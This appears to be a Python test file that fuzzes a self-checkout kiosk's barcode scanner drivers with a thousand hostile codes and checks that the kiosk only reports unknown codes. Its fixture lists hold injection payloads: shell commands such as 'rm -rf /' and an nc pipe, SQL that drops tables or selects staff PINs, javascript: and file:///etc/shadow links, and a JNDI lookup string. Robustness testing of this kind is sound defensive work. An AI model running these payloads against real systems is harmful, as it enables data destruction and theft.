"""A thousand hostile codes through real drivers into the real session: "unknown code" and nothing else (T-2)."""

import json
import logging
import queue
import random
import string
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from pathlib import Path

import pytest

from hardware.codecs.barcode_line import Identifiers, LineFormat
from hardware.device_thread import DeviceCondition, DeviceThread
from hardware.drivers.evdev_scanner import EvdevScanner
from hardware.drivers.hid_scanner import HidScanner
from hardware.drivers.serial_scanner import SerialScanner
from hardware.drivers.wedge_scanner import WedgeScanner
from hardware.ports.scanner import CodeRead, CodeRefused, Scanner, ScannerEvent
from hardware.simulators.evdev_scanner import EvdevScannerSimulator
from hardware.simulators.hid_scanner import HidScannerSimulator
from hardware.simulators.serial_scanner import SerialScannerSimulator
from hardware.transports.device_node import DeviceNode, HidNode
from hardware.transports.serial_port import SerialPort
from kiosk.checkout.snapshot import NoticeKind
from kiosk.domain.checkout_state import Stage
from tests.fakes.lane import MILK, Lane

GS = "\x1d"
MARK = "Zq7#"  # stands in every hostile code, so that it can be searched for wherever text is kept
SHELL = ["; rm -rf /", "$(reboot)", "`id`", "| nc 10.0.0.1 9", "&& poweroff", "../../etc/passwd", "\\\\host\\share"]
SQL = ["' OR 1=1 --", "'; DROP TABLE sale; --", '" UNION SELECT pin FROM staff --', "1); DELETE FROM journal; --"]
LINKS = [
    "https://evil.example/x",
    "javascript:alert(1)",
    "file:///etc/shadow",
    "http://a/01/1/10/",
    "tel:112",
    "wifi:S:x;;",
]
KEYS = ["\x1b[2J", "\x1b[A", "\x03", "\x1a", "\x04", "\x7f\x7f", "\x0b", "\x10\x04\x01", "\x16M", "\x02\x03", "\x00"]
MARKS = ["\u202e", "\u200f", "\u2066", "\u0007", "\ufeff", "가격", "￦1"]
AIM = ["]C1", "]E0", "]Q3", "]d2", "]e0", "]E3", "]", "]Q", "]z9", "]C1]C1"]
ELEMENTS = [f"01{GS}", f"0108801234{GS}", f"10{GS}{GS}{GS}", f"99{'9' * 90}", f"3103{GS}00", f"17{GS}999999", f"{GS}01"]


def hostile_codes(seed: int = 20260301) -> list[bytes]:
    """A thousand different ones; none is the number of an item."""
    chance = random.Random(seed)
    kinds: list[Callable[[], bytes]] = [
        lambda: chance.choice(SHELL).encode(),
        lambda: chance.choice(SQL).encode(),
        lambda: chance.choice(LINKS).encode(),
        lambda: chance.choice(KEYS).encode(),
        lambda: chance.choice(MARKS).encode(),
        lambda: chance.choice(ELEMENTS).encode(),
        lambda: bytes(chance.choices(range(256), k=chance.randint(1, 60))).replace(b"\r", b"").replace(b"\n", b""),
        lambda: "\ud800\udfff".encode("utf-8", "surrogatepass"),
        lambda: b"\xc0\xaf\xe0\x80\xaf\xf8",
        lambda: "".join(chance.choices(string.printable[:94], k=4096)).encode(),
        lambda: b"7" * chance.choice([513, 600, 4096]),
        lambda: b"%s%n%x{0}{{7*7}}${jndi:ldap://x}",
    ]
    codes = []
    for number in range(1000):
        head = chance.choice(AIM).encode() if chance.random() < 0.4 else b""
        codes.append(head + f"{MARK}{number}".encode() + kinds[number % len(kinds)]())
    codes[:20] = [each.encode() for each in (*AIM, *AIM)]  # identifiers with nothing behind them
    return codes


Way = Callable[[Path], AbstractContextManager[tuple[Scanner, Callable[[bytes], None]]]]


class Desk:
    """A lane whose scanner is a real driver on its thread; events are taken on the test's thread."""

    def __init__(self, scanner: Scanner) -> None:
        self.lane = Lane().boot()
        self.events: list[ScannerEvent] = []
        self._came: queue.SimpleQueue[ScannerEvent] = queue.SimpleQueue()
        self.thread = DeviceThread("hand", scanner, self._came.put)
        self.thread.start()

    def take_until(self, last: str) -> None:
        """Let the session take everything up to the code `last`."""
        while True:
            event = self._came.get(timeout=20)
            self.events.append(event)
            if isinstance(event, CodeRead) and event.text == last:
                return
            self.lane.session.scan(event)
            self.lane.run()


@contextmanager
def serial(folder: Path) -> Iterator[tuple[Scanner, Callable[[bytes], None]]]:
    scanner = SerialScannerSimulator(folder / "scanner")
    scanner.start()
    yield SerialScanner(SerialPort(scanner.address), "hand"), lambda code: scanner.send_bytes(code + b"\r")
    scanner.stop()


@contextmanager
def serial_with_identifiers(folder: Path) -> Iterator[tuple[Scanner, Callable[[bytes], None]]]:
    scanner = SerialScannerSimulator(folder / "scanner")
    scanner.start()
    driver = SerialScanner(SerialPort(scanner.address), "hand", LineFormat(identifiers=Identifiers.AIM))
    yield driver, lambda code: scanner.send_bytes(b"]Q1" + code + b"\r")
    scanner.stop()


@contextmanager
def hid(folder: Path) -> Iterator[tuple[Scanner, Callable[[bytes], None]]]:
    scanner = HidScannerSimulator(folder / "hidraw0")
    scanner.start()
    yield HidScanner(HidNode(scanner.address), "hand"), lambda code: scanner.send_bytes(code, "]Q1")
    scanner.stop()


@contextmanager
def evdev(folder: Path) -> Iterator[tuple[Scanner, Callable[[bytes], None]]]:
    scanner = EvdevScannerSimulator(folder / "event0")
    scanner.start()
    driver = EvdevScanner(DeviceNode(scanner.address), "hand")
    yield driver, lambda code: scanner.send_bytes(code + b"\r")
    scanner.stop()


@contextmanager
def wedge(_folder: Path) -> Iterator[tuple[Scanner, Callable[[bytes], None]]]:
    """Keys as a window has them: also characters that no byte can be, half a surrogate pair among them."""
    driver, clock = WedgeScanner("hand"), [0.0]

    def send(code: bytes) -> None:
        for character in code.decode("utf-8", "surrogatepass" if b"\xed" in code else "replace") + "\r":
            clock[0] += 0.001
            driver.key(character, clock[0])

    yield driver, send


WAYS: list[Way] = [serial, serial_with_identifiers, hid, evdev, wedge]


@pytest.mark.parametrize("way", WAYS, ids=["serial", "serial_with_identifiers", "hid", "evdev", "wedge"])
def test_t2_a_thousand_hostile_codes_do_nothing(way: Way, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    codes = hostile_codes()
    with way(tmp_path) as (driver, send):
        desk = Desk(driver)
        lane = desk.lane
        lane.scan(MILK)
        cart_before, total = lane.seen.cart, lane.seen.to_pay
        written = len(lane.store.shelf.journal)
        for number, code in enumerate(codes):
            try:
                send(code)
            except UnicodeDecodeError:
                send(code.decode("latin-1").encode())
            if number % 50 == 49:
                send(f"the {number}th".encode())
                desk.take_until(f"the {number}th")
                assert lane.seen.cart == cart_before
        assert desk.thread.state.condition is DeviceCondition.ONLINE
        desk.thread.stop()

    assert (lane.stage(), lane.seen.cart, lane.seen.to_pay) == (Stage.SHOPPING, cart_before, total)
    assert lane.seen.staff is None
    notice = lane.seen.notice
    assert notice is not None
    assert notice.kind in (NoticeKind.UNKNOWN_CODE, NoticeKind.READ_FAILED)
    assert {type(event) for event in desk.events} == {CodeRead, CodeRefused}
    assert len(desk.events) >= 980, "nothing is swallowed without a word"
    kinds = {kind for kind, _ in lane.store.shelf.journal[written:]}
    assert kinds <= {"item.refused", "attendant.called"}, kinds
    kept = json.dumps(lane.store.shelf.journal[written:], ensure_ascii=False)
    assert MARK not in kept
    assert not [record.getMessage() for record in caplog.records if MARK in record.getMessage()]
    assert not [record for record in caplog.records if record.levelno >= logging.ERROR]
    assert MARK not in repr(lane.seen)


def test_the_hostile_codes_are_of_every_kind() -> None:
    codes = hostile_codes()
    assert len(codes) == 1000
    assert any(len(code) > 4000 for code in codes)
    everything = b"".join(codes)
    for piece in (b"\x1b", b"\x1d", b"\x00", b"\xe2\x80\xae", b"DROP TABLE", b"javascript:", b"\xed\xa0\x80", b"]C1"):
        assert piece in everything
